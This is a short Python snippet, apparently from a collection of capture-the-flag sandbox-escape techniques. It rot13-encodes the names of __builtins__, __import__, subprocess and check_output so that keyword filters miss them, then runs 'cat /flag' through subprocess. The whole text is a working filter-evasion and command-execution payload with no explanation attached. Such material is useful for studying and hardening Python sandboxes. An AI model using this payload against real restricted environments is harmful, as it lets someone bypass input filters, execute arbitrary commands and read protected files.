# technique: rot13 via codecs.decode plus vars()/__dict__ lookups of computed names
import codecs

r = lambda t: codecs.decode(t, "rot_13")
ns = vars()
bi = ns[r("__ohvygvaf__")]
bi = bi.__dict__ if hasattr(bi, "__dict__") else bi
mod = bi[r("__vzcbeg__")](r("fhocebprff"))
print(mod.__dict__[r("purpx_bhgchg")]([r("png"), r("/synt")]))
